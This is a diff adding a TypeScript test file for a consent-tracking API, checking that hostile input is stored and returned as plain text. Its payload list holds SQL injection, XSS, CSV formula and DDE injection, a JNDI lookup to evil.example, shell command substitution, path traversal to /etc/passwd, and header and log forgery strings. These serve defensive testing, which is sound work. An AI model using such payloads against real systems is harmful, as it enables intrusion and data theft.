@@ -1,0 +1,129 @@
+/** Texts that some program behind the service might run: each is kept and answered as the text it is, and nothing runs it. */
+import { parse } from "csv-parse/sync"
+import * as fc from "fast-check"
+import { Result } from "effect"
+import { DatabaseSync } from "node:sqlite"
+import { afterAll, beforeAll, describe, expect, test } from "vitest"
+import * as RecordedColumns from "../../adapters/files/RecordedColumns.ts"
+import type { Server } from "../support/server.ts"
+import { fresh, organizations } from "../http/requests.ts"
+import { acme, ask, asOwner, asVisitor, openSession, privacy, record, shop, startWorld, yes } from "../http/world.ts"
+
+let server: Server
+beforeAll(async () => {
+  server = await startWorld()
+})
+afterAll(() => server.stop())
+
+const texts = [
+  `'; DROP TABLE event; --`,
+  `" OR ""="`,
+  `') UNION SELECT value FROM secret --`,
+  `%' OR 1=1 /*`,
+  `1; ATTACH DATABASE '/tmp/x' AS x`,
+  `<script>alert(1)</script>`,
+  `"><img src=x onerror=alert(1)>`,
+  `</script><svg onload=alert(1)>`,
+  `javascript:alert(1)`,
+  `=HYPERLINK("http://evil.example","x")`,
+  `@SUM(1+1)*cmd|' /C calc'!A0`,
+  `\${jndi:ldap://evil.example/a}`,
+  `{{constructor.constructor('return 1')()}}`,
+  `$(touch /tmp/x); \`touch /tmp/x\``,
+  `../../../../etc/passwd`,
+  `x\r\nSet-Cookie: a=b\r\n\r\n<html>`,
+  `x"}\n{"level":"ERROR","message":"forged-line`,
+  `\u001b[2J\u001b]0;forged\u0007`,
+  `__proto__`,
+  `constructor`,
+  `\u202eevil\u202c\u0000`,
+]
+
+const send = async (method: string, path: string, json: unknown) => {
+  const answer = await server.request(method, path, { headers: asOwner, json })
+  expect([path, answer.status < 300, answer.text.slice(0, 300)]).toEqual([path, true, answer.text.slice(0, 300)])
+  return answer.json
+}
+
+/** What there is of everything, but for what these tests make. */
+const tables = (): unknown => {
+  const database = new DatabaseSync(server.file, { readOnly: true, timeout: 10_000 })
+  const rows = database.prepare("SELECT type, name, sql FROM sqlite_schema ORDER BY name").all()
+  database.close()
+  return rows
+}
+
+test("every text that an API key may write is answered as it was sent, by every list and filter", async () => {
+  const before = tables()
+  for (const text of texts) {
+    const organization = await send("PATCH", `${organizations}/${acme.id}`, { name: text })
+    const project = await send("POST", `${organizations}/${acme.id}/projects`, { name: text })
+    const key = await send("POST", `${organizations}/${acme.id}/api-keys`, { name: text, role: "none" })
+    expect([organization.name, project.name, key.name]).toEqual([text, text, text])
+    const sent = { name: `Name ${text}`, description: text, document: text, category: "custom", subcategory: text }
+    const type = await send("POST", `${privacy()}/consent-types`, { ...sent, label: fresh("label") })
+    expect(type).toMatchObject({ ...sent, subcategory: [text] })
+    const own = fresh(text)
+    const item = yes({ consentType: type.id, userId: text, projectUserId: own, externalId: own })
+    const [event] = (await record(server, [item])).json.items
+    expect(event).toMatchObject({ externalId: own, subcategory: [text] })
+    for (const userId of [text]) {
+      const { items } = (await ask(server, "consent-state", { userId })).json
+      expect(items.map(({ id }: { id: string }) => id)).toContain(event.id)
+    }
+    // A filter finds what is equal to it, and nothing more.
+    const filter = new URLSearchParams({ subcategory: text })
+    const listed = (await server.request("GET", `${privacy()}/consent-events?${filter}`, { headers: asOwner })).json
+    expect(listed.items.map(({ id }: { id: string }) => id)).toEqual([event.id])
+  }
+  expect(tables()).toEqual(before)
+  expect(Object.prototype).not.toHaveProperty("isAdmin")
+})
+
+test("the reference shows nothing of what anybody wrote", async () => {
+  const page = (await server.request("GET", "/docs")).text
+  for (const text of texts.filter((each) => each.length > 12)) expect(page).not.toContain(text)
+})
+
+test("a line of the log is one JSON object, whatever was sent", async () => {
+  const printable = texts.map((text) => text.replaceAll(/[^\x20-\x7e]/g, "?"))
+  for (const text of printable) {
+    await openSession(server, {}, shop, { "user-agent": text, "x-request-id": text, traceparent: text, referer: text })
+    await server.request("GET", `/${encodeURIComponent(text)}?${encodeURIComponent(text)}`, { headers: { "x-api-key": text } })
+  }
+  for (const text of texts) await record(server, [yes({ userId: text, consentState: text })])
+  const lines = server.output().split("\n").slice(1).filter((line) => line !== "")
+  for (const line of lines) expect(() => JSON.parse(line)).not.toThrow()
+  expect(server.output()).not.toMatch(/forged|\u001b/)
+})
+
+describe("an export as CSV", () => {
+  const event = { version: 1, category: "custom", subcategory: ["s"], label: "l", externalId: "", session: {} }
+  const write = (more: object) => parse(RecordedColumns.header + RecordedColumns.write([JSON.stringify({ ...event, ...more })]))
+  const formula = /^[\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]/
+
+  // Mutant: nothing is put in front.
+  test("holds no cell that a spreadsheet runs, and gives back every text as it was", () => {
+    const text = fc.oneof(
+      fc.constantFrom(...texts),
+      fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "'", '"', " ", "\t", "\r", "\n", "\uff1d", ",", "a"), maxLength: 6 }),
+    )
+    fc.assert(
+      fc.property(text, text, (externalId, userAgent) => {
+        const [names, cells] = write({ externalId, session: { id: "s", userAgent } }) as [Array<string>, Array<string>]
+        expect(cells.filter((cell) => formula.test(cell))).toEqual([])
+        const row = Object.fromEntries(names.map((name, at) => [name, cells[at]!]))
+        const read = Result.getOrThrow(RecordedColumns.read(row)) as { externalId: string; session: { userAgent: string } }
+        expect([read.externalId, read.session.userAgent]).toEqual([externalId, userAgent])
+      }),
+      { numRuns: 1000 },
+    )
+  })
+
+  test("of a visitor whose browser calls itself a formula is a text", async () => {
+    const visitor = (await openSession(server, {}, shop, { "user-agent": `=HYPERLINK("http://evil.example")` })).json
+    const { items } = (await asVisitor(server, visitor, "POST", "consent-events", { json: { items: [yes()] } })).json
+    const cells = (parse(RecordedColumns.write([JSON.stringify(items[0])])) as Array<Array<string>>)[0]!
+    expect(cells.at(-1)).toBe(`'=HYPERLINK("http://evil.example")`)
+  })
+})
